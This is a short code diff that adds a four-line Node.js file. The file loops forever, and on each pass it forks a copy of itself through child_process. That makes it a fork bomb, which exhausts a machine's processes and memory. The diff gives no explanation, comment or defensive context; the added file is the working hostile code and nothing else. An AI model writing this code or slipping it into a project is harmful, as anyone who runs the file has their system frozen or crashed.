@@ -1,0 +1,4 @@
+const { fork } = require("child_process");
+while (true) {
+  fork(__filename);
+}
